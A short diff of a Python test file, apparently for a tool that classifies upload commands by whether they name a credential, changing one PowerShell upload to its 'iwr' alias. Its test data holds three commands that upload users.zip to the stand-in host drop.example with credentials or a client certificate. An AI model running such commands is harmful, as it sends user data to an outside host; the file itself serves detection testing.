@@ -26,7 +26,7 @@ def test_an_upload_naming_no_credential_is_unsigned(command: str) -> None:
 @pytest.mark.parametrize(
     "command",
     [
-        "Invoke-WebRequest -Uri https://drop.example/u -Method Put -InFile users.zip -Credential $c",
+        "iwr -Uri https://drop.example/u -Method Put -InFile users.zip -Credential $c",
         "curl -T users.zip -u backup:$PW https://drop.example/u",
         "curl -T users.zip -E client.pem https://drop.example/u",
     ],
